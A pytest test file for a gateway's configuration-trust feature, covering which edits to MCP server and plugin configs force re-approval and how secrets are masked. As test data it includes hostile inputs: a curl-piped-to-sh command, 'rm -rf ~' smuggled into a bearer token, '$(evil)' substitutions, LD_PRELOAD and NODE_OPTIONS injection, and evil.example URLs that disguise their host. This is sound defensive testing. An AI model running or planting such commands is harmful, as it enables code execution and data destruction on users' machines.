"""The fingerprint of a file and the list of those that are trusted: what asks again, and what does not."""

from __future__ import annotations

import json
import os
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from tests.support.config_files import KINDS
from tests.support.trust import trust, verdict_of

from trunkline.config.files import ConfigFile
from trunkline.config.load import load_config
from trunkline.config.trust.store import TrustStore
from trunkline.core.errors import GatewayError

CONFIG = """\
# a comment
gateway:
  listen: 127.0.0.1:4747
  state_dir: state
  log: {level: info}
mcpServers:
  web: {url: "https://x.example/mcp", timeout: 5000}
  notes: {command: python3, args: [tools/notes.py, data.db], env: {A: "${B}"}, envFile: notes.env, cwd: .}
sources:
  own: {kind: mcp_stdio, command: ./bin/own, timeout: 5, tools: {allow: ["*"], timeouts: {slow: 9}}}
  files: {kind: builtin, root: .}
  late: {kind: mcp_stdio, command: ./bin/late}
"""
PLUGINS = "plugins:\n  jobs: {path: ../plugins/jobs}\n  git: {command: git-plugin, args: [-m, tool]}\n"


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    folder = tmp_path / "repository"
    for name in ("bin", "tools", "plugins/jobs", ".awf"):
        (folder / name).mkdir(parents=True)
    for name in ("bin/own", "tools/notes.py", "data.db", "notes.env", "tool.py", "plugins/jobs/plugin.yaml"):
        (folder / name).write_text(name)
    (folder / "bin" / "own").chmod(0o755)
    (folder / "plugins" / "jobs" / "jobs").write_text("x")
    (folder / "plugins" / "jobs" / "jobs").chmod(0o755)
    (folder / "trunkline.yaml").write_text(CONFIG)
    (folder / ".awf" / "plugins.yaml").write_text(PLUGINS)
    return folder


def digests(folder: Path) -> tuple[str, str]:
    home = folder.parent / "home"
    files = (folder / "trunkline.yaml", folder / ".awf" / "plugins.yaml")
    ours, plugins = (verdict_of(file, home).digest for file in files)
    return ours, plugins


# -- the fingerprint --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("# a comment", "# another"),
        ("level: info", "level: debug"),
        ("  log: {level: info}\n", "  start_wait: 3\n  limits: {call_seconds: 3}\n"),
        ("timeout: 5000", "timeout: 6000"),
        ("timeout: 5,", "timeout: 6, connect_timeout: 2, grace: 1, start_timeout: 4,"),
        ("{slow: 9}", "{slow: 10, other: 3}"),
        ("sources:", '"$schema": x\nsources:'),
        ("  listen: 127.0.0.1:4747\n  state_dir: state\n", "  state_dir: state\n  listen: 127.0.0.1:4747\n"),
        ("{command: python3, args", "{'command': \"python3\", args"),
        ("{kind: builtin, root: .}", "\n    root: .\n    kind: builtin"),
    ],
)
def test_edits_that_do_not_ask_again(folder: Path, before: str, after: str) -> None:
    known = digests(folder)
    assert before in CONFIG
    (folder / "trunkline.yaml").write_text(CONFIG.replace(before, after))
    assert digests(folder) == known


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("python3", "python3.12"),
        ("data.db]", "data.db, --more]"),
        ("[tools/notes.py, data.db]", "[data.db, tools/notes.py]"),
        ('A: "${B}"', 'A: "${C}"'),
        ('A: "${B}"', 'A: "${B}", NODE_OPTIONS: x'),
        ("cwd: .", "cwd: sub"),
        ("envFile: notes.env", "envFile: other.env"),
        ("https://x.example/mcp", "https://y.example/mcp"),
        ('mcp", timeout', 'mcp", headers: {X-A: b}, timeout'),
        ("root: .", "root: .."),
        ("root: .", "root: ., sandbox: off"),
        ("root: .", "root: ., sandbox: {network: on}"),
        ("root: .", "root: ., protect: off"),
        ("root: .", "root: ., tools: {allow: [Bash]}"),
        ('allow: ["*"]', 'allow: ["x"]'),
        ("listen: 127.0.0.1:4747", "listen: 0.0.0.0:4747"),
        ("listen: 127.0.0.1:4747", "allowed_hosts: [x.example]"),
        ("state_dir: state", "state_dir: elsewhere"),
        ("state_dir: state", "state_dir: state\n  token: abcdefgh"),
        ("state_dir: state", "state_dir: state\n  telemetry: {exporter: file, endpoint: x}"),
        ("state_dir: state", "state_dir: state\n  require_provisioning: false"),
        ("state_dir: state", "state_dir: state\n  a_key_of_tomorrow: 1"),
        ("sources:", "sources:\n  more: {kind: plugin, command: x}"),
        ("  files: {kind: builtin, root: .}\n", ""),
        ("./bin/own", "./bin/other"),
        ("timeout: 5,", "enabled: false,"),
        ("timeout: 5000", 'description: "${SECRET}"'),
        ("  log: {level: info}\n", '  search: {tags: {a: ["${SECRET}"]}}\n'),
    ],
)
def test_edits_that_ask_again(folder: Path, before: str, after: str) -> None:
    known, plugins = digests(folder)
    assert before in CONFIG
    (folder / "trunkline.yaml").write_text(CONFIG.replace(before, after))
    now, same = digests(folder)
    assert (now != known, same) == (True, plugins)


@pytest.mark.parametrize(
    ("name", "asks"),
    [
        ("bin/own", (True, False)),
        ("bin/late", (True, False)),
        ("tools/notes.py", (True, False)),
        ("notes.env", (True, False)),
        ("data.db", (False, False)),
        ("unrelated.py", (False, False)),
        ("tool.py", (False, True)),
        ("tool/__main__.py", (False, True)),
        ("plugins/jobs/jobs", (False, True)),
        ("plugins/jobs/plugin.yaml", (False, True)),
        ("plugins/jobs/readme", (False, False)),
    ],
)
def test_the_bytes_of_programs_and_scripts_below_the_folder_count(
    folder: Path, name: str, asks: tuple[bool, bool]
) -> None:
    known = digests(folder)
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("changed")
    assert tuple(now != before for now, before in zip(digests(folder), known, strict=True)) == asks


def test_scripts_that_a_longer_text_names_count(folder: Path) -> None:
    for entry in (
        "{command: sh, args: [-c, 'cd x; exec ./tools/run.sh --flag']}",
        "{command: node, args: [-e, '0'], env: {NODE_OPTIONS: '--require ./tools/run.sh'}}",
        "{command: npx, args: [--script=tools/run.sh]}",
    ):
        (folder / "tools" / "run.sh").write_text("one")
        (folder / "trunkline.yaml").write_text(f"mcpServers: {{a: {entry}}}\n")
        known = digests(folder)
        (folder / "tools" / "run.sh").write_text("two")
        assert digests(folder)[0] != known[0], entry


@pytest.mark.parametrize(
    ("entry", "name"),
    [
        ("{command: bash, args: [-c, 'true'], env: {BASH_ENV: ./setup}}", "setup"),
        ("{command: cat, env: {LD_PRELOAD: ./own.so}}", "own.so"),
        ("{command: git, env: {GIT_ASKPASS: ./ask.sh}}", "ask.sh"),
        ("{command: sh, args: [-c, '. ./setup; server']}", "setup"),
        ("{command: sh, args: [-c, 'cd tools && exec python3 notes.py']}", "tools/notes.py"),
        ("{command: sh, args: [-c, 'python3 < setup']}", "setup"),
        ("{command: env, args: [-C, tools, python3, setup]}", "tools/setup"),
        ("{command: uv, args: [--directory, tools, run, server.py]}", "tools/server.py"),
        ("{command: python3, args: [-mserver]}", "server.py"),
        ("{command: python3, args: [-um, package]}", "package/__main__.py"),
        ("{command: python3, args: [-m, package.inner]}", "package/__init__.py"),
        ("{command: python3, args: [package]}", "package/__main__.py"),
        ("{command: node, args: [.]}", "index.js"),
        ("{command: node, args: [server]}", "server.js"),
        ("{command: node, args: [-r, ./first, server.js]}", "first.js"),
        ("{command: node, args: [-r, ./notes.env, ./server]}", "server"),
        ("{command: node, args: [--env-file, notes.env, server]}", "server.js"),
        ("{command: bash, args: [--rcfile, notes.env, setup]}", "setup"),
        ("{command: sh, args: [-c, '\"$PWD/setup.sh\" --flag']}", "setup.sh"),
        ("{command: sh, args: [-c, 'exec bash $(pwd)/setup']}", "setup"),
        ("{command: dotnet, args: [server.dll]}", "server.dll"),
        ("{command: make, args: [-f, rules]}", "rules"),
        ("{command: awk, args: [-f, rules]}", "rules"),
        ("{command: docker, args: [compose, -f, compose.yaml, run, server]}", "compose.yaml"),
    ],
)
def test_whatever_way_a_script_is_named_it_counts(folder: Path, entry: str, name: str) -> None:
    path = folder / name
    path.parent.mkdir(exist_ok=True)
    (folder / "trunkline.yaml").write_text(f"mcpServers: {{a: {entry}}}\n")
    (folder / "package").mkdir(exist_ok=True)
    (folder / "package" / "inner.py").write_text("")
    known = digests(folder)
    for content in ("one", "two"):
        path.write_text(content)
        before, known = known, digests(folder)
        assert known[0] != before[0]


@pytest.mark.parametrize(
    "entry", ["{command: server, args: [--db, data.db]}", "{command: server, env: {DB: ./data.db, M: -m}}"]
)
def test_data_may_change(folder: Path, entry: str) -> None:
    (folder / "trunkline.yaml").write_text(f"mcpServers: {{a: {entry}}}\n")
    known = digests(folder)
    (folder / "data.db").write_text("changed")
    assert digests(folder) == known


def test_a_script_in_the_folder_that_it_is_started_in_counts(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A file beside a workflow counts in folders below, too, and programs are started there unless it says where."""
    (folder / "sub").mkdir()
    (folder / "sub" / "run.py").write_text("one")
    (folder / "trunkline.yaml").write_text("mcpServers: {a: {command: python3, args: [run.py]}}\n")
    known, plugins = digests(folder)
    monkeypatch.chdir(folder / "sub")
    there, plugins_there = digests(folder)
    assert (there != known, plugins_there) == (True, plugins)
    shown = [line.text for line in verdict_of(folder / "trunkline.yaml", folder).lines()]
    assert f"from the file {folder / 'sub' / 'run.py'}" in shown
    (folder / "sub" / "run.py").write_text("two")
    assert digests(folder)[0] != there
    (folder / "trunkline.yaml").write_text("mcpServers: {a: {command: python3, args: [run.py], cwd: .}}\n")
    here = digests(folder)
    monkeypatch.chdir(folder)
    assert digests(folder) == here


@pytest.mark.parametrize("said", ["root: agents", "root: ., sandbox: {folders: {agents: rw}}"])
def test_a_folder_for_agents_that_becomes_a_link_to_elsewhere_counts(folder: Path, said: str) -> None:
    (folder / "trunkline.yaml").write_text(f"sources: {{b: {{kind: builtin, {said}}}}}\n")
    (folder / "agents").mkdir()
    known = digests(folder)
    (folder / "agents").rmdir()
    (folder / "agents").symlink_to("tools")
    assert digests(folder) == known
    (folder / "agents").unlink()
    (folder / "agents").symlink_to(folder.parent)
    assert digests(folder)[0] != known[0]
    weakened = [line.text for line in verdict_of(folder / "trunkline.yaml", folder).lines() if line.effect == "weaken"]
    assert any(f"{folder / 'agents'} leads to {folder.parent}" in text for text in weakened)


def test_a_link_to_a_program_counts_with_what_it_leads_to(folder: Path) -> None:
    outside = folder.parent / "outside"
    outside.write_text("one")
    (folder / "bin" / "own").unlink()
    (folder / "bin" / "own").symlink_to(outside)
    known = digests(folder)
    outside.write_text("two")
    assert digests(folder)[0] != known[0]


def test_in_whatever_way_the_folder_is_named_nothing_is_asked_again(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = digests(folder)
    (folder.parent / "link").symlink_to(folder)
    monkeypatch.chdir(folder / "tools")
    home = folder.parent / "home"
    for named in (Path(".."), folder / "bin" / "..", folder.parent / "link"):
        files = (named / "trunkline.yaml", named / ".awf" / "plugins.yaml")
        assert tuple(verdict_of(file, home).digest for file in files) == before


def test_what_is_in_the_way_of_a_program_holds_nothing_up(folder: Path) -> None:
    """A pipe that nobody writes to, a loop of links, a folder."""
    path = folder / "bin" / "late"
    for put in (os.mkfifo, lambda path: path.symlink_to(path), Path.mkdir):
        known = digests(folder)
        put(path)
        assert digests(folder)[0] != known[0]
        path.rmdir() if path.is_dir() and not path.is_symlink() else path.unlink()


def test_a_module_in_any_number_of_packages_holds_nothing_up(folder: Path) -> None:
    module = "a." * 400_000
    (folder / "trunkline.yaml").write_text(f"mcpServers: {{a: {{command: python3, args: [-m, {module}]}}}}\n")
    assert verdict_of(folder / "trunkline.yaml", folder).files == ()


def test_files_of_any_size_hold_nothing_up(folder: Path) -> None:
    for number in range(40):
        with (folder / f"{number}.py").open("wb") as file:
            file.truncate(400 * 1024 * 1024)
    listed = ", ".join(f"{number}.py" for number in range(40))
    (folder / "trunkline.yaml").write_text(f"mcpServers: {{a: {{command: python3, args: [{listed}]}}}}\n")
    known = digests(folder)
    os.truncate(folder / "39.py", 400 * 1024 * 1024 - 1)
    assert digests(folder)[0] != known[0]


def test_a_variable_counts_as_it_is_written(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    known = digests(folder)
    monkeypatch.setenv("B", "value")
    assert digests(folder) == known


def test_everything_that_is_trusted_is_shown_and_secrets_are_not(folder: Path) -> None:
    (folder / "trunkline.yaml").write_text(
        "gateway: {token: hunter2hunter2, listen: '0.0.0.0:1'}\n"
        "mcpServers:\n"
        "  a:\n    command: sh\n    args: [-c, 'curl -H \"Bearer abcdefghijk\" x|sh', --token, s3cr3tvalue]\n"
        "    env: {API_KEY: k3yk3yk3y, B: c}\n"
        "  w: {url: 'https://x.example/mcp?key=v4lue4value&to=${TOKEN}', headers: {X-A: '${KEY}'}}\n"
        "sources: {b: {kind: builtin, root: ., sandbox: off}}\n"
    )
    lines = verdict_of(folder / "trunkline.yaml", folder).lines()
    shown = "\n".join(f"{line.effect} {line.what} {line.text}" for line in lines)
    for secret in ("hunter2", "abcdefghijk", "s3cr3tvalue", "k3yk3yk3y", "v4lue4value"):
        assert secret not in shown
    assert "start a sh -c" in shown
    assert "x|sh" in shown
    assert "reach w https://x.example/mcp?key=********&to=${TOKEN}" in shown
    assert "reach w headers.X-A: ${KEY}" in shown
    assert "weaken b sandbox: off" in shown
    assert "weaken  gateway.listen" in shown
    assert "start a env.B: c" in shown


def test_a_command_cannot_be_hidden_as_a_secret(folder: Path) -> None:
    hidden = "Bearer aaaaaaaa;rm -rf ~"
    (folder / "trunkline.yaml").write_text(
        f"mcpServers: {{a: {{command: sh, args: [-c, '{hidden}', '--token=$(evil)', --password, 'x;evil2', "
        "--secret, ./evil3, --token=../evil4]}}\n"
    )
    [line] = [line for line in verdict_of(folder / "trunkline.yaml", folder).lines() if line.effect == "start"]
    for part in (";rm -rf ~", "$(evil)", "x;evil2", "./evil3", "../evil4"):
        assert part in line.text


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://me:evil.example@evil.example/mcp", "https://********@evil.example/mcp"),
        ("https://evil:t@evil.example:8/mcp?t=evil.example", "https://********@evil.example:8/mcp?t=********"),
        ("https://good.example\\@evil.example/mcp", "https://good.example\\@evil.example/mcp"),
        ("https://evil.example#@good.example/", "https://evil.example#********"),
        ("https://x.example/abcdefgh12ij34klmn56/mcp", "https://x.example/********/mcp"),
        ("x.example/mcp?key=v4lue4value", "x.example/mcp?key=********"),
    ],
)
def test_the_host_of_a_url_cannot_be_hidden_as_a_secret(folder: Path, url: str, shown: str) -> None:
    (folder / "trunkline.yaml").write_text(json.dumps({"mcpServers": {"a": {"url": url}}}))
    [line] = verdict_of(folder / "trunkline.yaml", folder).lines()
    assert (line.effect, line.text) == ("reach", shown)


@pytest.mark.parametrize(
    "source",
    [
        {"kind": "builtin", "root": ".", "tools": {"allow": ["${NOTHING:-Bash}"]}},
        {"kind": "app", "listen": "0.0.0.0:5100"},
    ],
)
def test_what_weakens_is_told_as_that(folder: Path, source: object) -> None:
    (folder / "trunkline.yaml").write_text(json.dumps({"sources": {"a": source}}))
    lines = verdict_of(folder / "trunkline.yaml", folder).lines()
    assert [line.effect for line in lines].count("weaken") == 1


# -- where it is kept -------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("program", ["/tmp/evil", "~/evil", "./evil", "../evil", "npx evil"])
def test_a_program_cannot_be_hidden_under_the_name_of_a_secret(folder: Path, program: str) -> None:
    for entry in (
        {"command": "env", "args": [f"X_TOKEN={program}", "sh", "-c", "exec $X_TOKEN"]},
        {"command": "sh", "args": ["-c", "exec $X_TOKEN"], "env": {"X_TOKEN": program}},
        {"command": "x", "args": ["--token", program]},
    ):
        (folder / "trunkline.yaml").write_text(json.dumps({"mcpServers": {"a": entry}}))
        lines = verdict_of(folder / "trunkline.yaml", folder).lines()
        assert any(program in line.text for line in lines), entry


def test_the_name_of_a_program_is_shown_though_it_looks_like_a_key(folder: Path) -> None:
    (folder / "trunkline.yaml").write_text(json.dumps({"mcpServers": {"a": {"command": f"sk-{'a' * 20}"}}}))
    [line] = verdict_of(folder / "trunkline.yaml", folder).lines()
    assert line.text == f"sk-{'a' * 20}"


@pytest.mark.parametrize("root", ["/", "~", "..", "a/../..", "${HOME}"])
def test_a_root_elsewhere_is_among_what_is_weakened(folder: Path, root: str) -> None:
    source = {"kind": "builtin", "root": root, "sandbox": {"env": {"X": "${Y}"}}}
    (folder / "trunkline.yaml").write_text(json.dumps({"sources": {"b": source}}))
    weakened = [line.text for line in verdict_of(folder / "trunkline.yaml", folder).lines() if line.effect == "weaken"]
    assert [text.partition(" (")[0] for text in weakened] == [f"root: {root}", "sandbox.env.X: ${Y}"]


def test_half_a_character_is_no_path(folder: Path) -> None:
    (folder / "trunkline.yaml").unlink()
    file = folder / "trunkline.json"
    file.write_text('{"mcpServers": {"a": {"command": "./\\ud800", "args": ["\\ud800", "-m", "x\\udfff y"]}}}')
    assert verdict_of(file, folder).files == ()


@pytest.mark.parametrize("text", ["", "# none\n", "{}\n"])
def test_of_an_empty_file_there_is_nothing_to_show(folder: Path, text: str) -> None:
    (folder / "trunkline.yaml").write_text(text)
    assert verdict_of(folder / "trunkline.yaml", folder).lines() == ()


def is_trusted(file: Path, home: Path) -> bool:
    loaded = load_config(ConfigFile(file, "found"), environ={"HOME": str(home), "B": "b"}, kinds=KINDS)
    assert (loaded.settings is None) == bool(loaded.untrusted)
    return loaded.settings is not None


def test_a_file_counts_at_its_place_and_nowhere_else(tmp_path: Path) -> None:
    here, home = tmp_path / "here", tmp_path / "home"
    here.mkdir()
    file = here / "trunkline.yaml"
    file.write_text("mcpServers: {a: {command: cat}}\n")
    assert not is_trusted(file, home)
    trust(file, {"HOME": str(home)})
    assert is_trusted(file, home)
    for other in ("copied", "linked", "hard"):
        (tmp_path / other).mkdir()
        elsewhere = tmp_path / other / "trunkline.yaml"
        if other == "copied":
            elsewhere.write_text(file.read_text())
        elif other == "linked":
            elsewhere.symlink_to(file)
        else:
            elsewhere.hardlink_to(file)
        assert not is_trusted(elsewhere, home), other
    (tmp_path / "way").symlink_to(here)
    assert is_trusted(tmp_path / "way" / "trunkline.yaml", home)
    (here / ".awf").mkdir()
    plugins = here / ".awf" / "plugins.yaml"
    plugins.write_text("plugins: {a: {command: npx, args: [it]}}\n")
    trust(plugins, {"HOME": str(home)})
    (tmp_path / "copied" / ".awf").symlink_to(here / ".awf")
    assert verdict_of(plugins, home).is_trusted
    assert verdict_of(tmp_path / "way" / ".awf" / "plugins.yaml", home).is_trusted
    assert not verdict_of(tmp_path / "copied" / ".awf" / "plugins.yaml", home).is_trusted
    here.rename(tmp_path / "moved")
    assert not is_trusted(tmp_path / "moved" / "trunkline.yaml", home)


@pytest.mark.parametrize("named", ["trunkline.yaml", "sub/../trunkline.yaml", "link/trunkline.yaml"])
def test_whichever_way_a_file_is_named_it_is_the_same_one(
    folder: Path, monkeypatch: pytest.MonkeyPatch, named: str
) -> None:
    (folder / "sub").mkdir()
    (folder / "link").symlink_to(folder)
    known = digests(folder)
    assert verdict_of(folder / named, folder).digest == known[0]
    assert verdict_of(folder / named.replace("trunkline.yaml", ".awf/plugins.yaml"), folder).digest == known[1]
    monkeypatch.chdir(folder / ".awf")
    assert verdict_of(Path("plugins.yaml"), folder).digest == known[1]


def test_another_user_has_another_list(tmp_path: Path) -> None:
    (tmp_path / "trunkline.yaml").write_text("{}")
    trust(tmp_path / "trunkline.yaml", {"HOME": str(tmp_path / "one")})
    assert is_trusted(tmp_path / "trunkline.yaml", tmp_path / "one")
    assert not is_trusted(tmp_path / "trunkline.yaml", tmp_path / "other")


def test_the_state_folder_of_the_file_itself_says_nothing(tmp_path: Path) -> None:
    file, home = tmp_path / "trunkline.yaml", tmp_path / "home"
    file.write_text("gateway: {state_dir: .}\n")
    digest = verdict_of(file, home).digest
    store = TrustStore({"HOME": str(home)})
    store.trust(file, digest)
    (tmp_path / "trusted.json").write_bytes(store.path.read_bytes())
    store.path.unlink()
    assert not is_trusted(file, home)


def test_the_list_is_private_and_survives_what_is_written_at_once(tmp_path: Path) -> None:
    store = TrustStore({"HOME": str(tmp_path)})
    with ThreadPoolExecutor(8) as pool:
        list(pool.map(lambda number: store.trust(tmp_path / f"{number}.yaml", "x"), range(40)))
    assert len(store.read().files) == 40
    assert (store.path.stat().st_mode & 0o777, store.folder.stat().st_mode & 0o777) == (0o600, 0o700)
    assert store.revoke(tmp_path / "7.yaml")
    assert not store.revoke(tmp_path / "7.yaml")
    assert len(store.read().files) == 39


@pytest.mark.parametrize("damage", ["", "{", "[]", '{"version": 1, "files": {"/x": 1}}', '{"version": 2, "files": {}}'])
def test_of_a_damaged_list_nothing_is_trusted_and_that_is_said(tmp_path: Path, damage: str) -> None:
    (tmp_path / "trunkline.yaml").write_text("{}")
    trust(tmp_path / "trunkline.yaml", {"HOME": str(tmp_path)})
    store = TrustStore({"HOME": str(tmp_path)})
    store.path.write_text(damage)
    verdict = verdict_of(tmp_path / "trunkline.yaml", tmp_path)
    assert (verdict.is_trusted, "cannot be used" in verdict.problem().message) == (False, True)
    trust(tmp_path / "trunkline.yaml", {"HOME": str(tmp_path)})
    assert is_trusted(tmp_path / "trunkline.yaml", tmp_path)
    assert (store.folder / "trusted.json.damaged").read_text() == damage


@pytest.mark.parametrize("how", ["others", "link", "pipe"])
def test_a_list_that_somebody_else_could_have_written_is_none(tmp_path: Path, how: str) -> None:
    file = tmp_path / "trunkline.yaml"
    file.write_text("{}")
    trust(file, {"HOME": str(tmp_path)})
    store = TrustStore({"HOME": str(tmp_path)})
    if how == "others":
        store.path.chmod(0o666)
    elif how == "link":
        store.path.rename(tmp_path / "elsewhere")
        store.path.symlink_to(tmp_path / "elsewhere")
    else:
        store.path.unlink()
        os.mkfifo(store.path)
    assert not is_trusted(file, tmp_path)
    assert store.read().fault
    with pytest.raises(GatewayError, match="move it away"):
        store.trust(file, "x")


def test_the_list_says_what_it_must_and_no_more(tmp_path: Path) -> None:
    file = tmp_path / "trunkline.yaml"
    file.write_text("gateway: {token: hunter2hunter2}\n")
    trust(file, {"HOME": str(tmp_path)})
    kept = json.loads(TrustStore({"HOME": str(tmp_path)}).path.read_bytes())
    assert list(kept["files"]) == [str(file)]
    assert "hunter2" not in json.dumps(kept)


# -- loading ----------------------------------------------------------------------------------------------------------


def test_of_a_found_file_that_is_not_trusted_there_are_no_settings_whatever_it_says(tmp_path: Path) -> None:
    file = tmp_path / "trunkline.yaml"
    for text in ("{}", "", "mcpServers: {a: {command: cat}}", "gatewy: {}", "sources: {a: {kind: nonsense}}"):
        file.write_text(text)
        loaded = load_config(ConfigFile(file, "found"), environ={"HOME": str(tmp_path)}, kinds=KINDS)
        assert loaded.settings is None
        assert [problem.code.id for problem in loaded.problems if problem.severity == "error"] == ["TL116"]
        assert load_config(ConfigFile(file, "own"), environ={"HOME": str(tmp_path)}, kinds=KINDS).untrusted == ()


def test_whoever_only_looks_reads_it_all_the_same(tmp_path: Path) -> None:
    file = tmp_path / "trunkline.yaml"
    file.write_text("mcpServers: {a: {command: cat}}")
    loaded = load_config(ConfigFile(file, "found"), environ={"HOME": str(tmp_path)}, kinds=KINDS, inspect_only=True)
    assert loaded.settings is not None
    assert [(problem.code.id, problem.severity) for problem in loaded.problems] == [("TL116", "warning")]


def test_a_plugins_file_beside_a_named_configuration_has_to_be_trusted_by_itself(tmp_path: Path) -> None:
    (tmp_path / ".awf").mkdir()
    plugins = tmp_path / ".awf" / "plugins.yaml"
    plugins.write_text("plugins: {evil: {command: evil}}")
    (tmp_path / "trunkline.yaml").write_text("{}")
    file = ConfigFile.named(tmp_path / "trunkline.yaml")
    environ = {"HOME": str(tmp_path / "home")}
    assert load_config(file, environ=environ, kinds=KINDS).settings is None
    trust(plugins, environ)
    settings = load_config(file, environ=environ, kinds=KINDS).settings
    assert settings is not None
    assert list(settings.sources) == ["evil"]
